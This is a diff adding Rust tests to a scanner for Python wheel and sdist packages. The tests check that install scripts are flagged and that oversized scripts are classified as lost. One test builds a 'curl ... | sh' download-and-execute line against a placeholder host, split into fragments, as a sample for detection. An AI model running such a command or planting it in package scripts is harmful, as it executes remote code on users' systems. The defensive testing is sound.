@@ -295,3 +295,26 @@ fn the_same_bytes_give_the_same_report() {
     let [a, b] = [scan(&bytes), scan(&bytes)].map(|report| serde_json::to_string(&report).unwrap());
     assert_eq!(a, b);
 }
+
+#[test]
+fn scripts_are_searched_and_opaque_all_the_same() {
+    let fetch = ["cu", "rl -s https://host.example/x | ", "sh\n"].concat();
+    let path = "demo-1.0.data/scripts/post.sh";
+    let report = scan(&wheel("demo", "1.0").file(path, &*fetch).build());
+    assert_eq!(rules(&report), ["script-download-execute"]);
+    assert_eq!(report.findings[0].severity, Severity::High);
+    assert_eq!(class(&report, path), "opaque other-source");
+    let report = scan(&sdist("demo", "1.0").file("ci/post.sh", &*fetch).build());
+    assert_eq!(rules(&report), ["development-script-download"]);
+}
+
+#[test]
+fn a_script_that_is_too_large_is_lost() {
+    let most = gate_scanner::scripts::MAX_BYTES;
+    for (size, expected) in [(most - 1, "opaque other-source"), (most, "opaque other-source"), (most + 1, "lost limit")]
+    {
+        let script = "true\n".repeat(size / 5 + 1);
+        let report = scan(&wheel("demo", "1.0").file("demo/a.sh", &script[..size]).build());
+        assert_eq!(class(&report, "demo/a.sh"), expected, "{size}");
+    }
+}
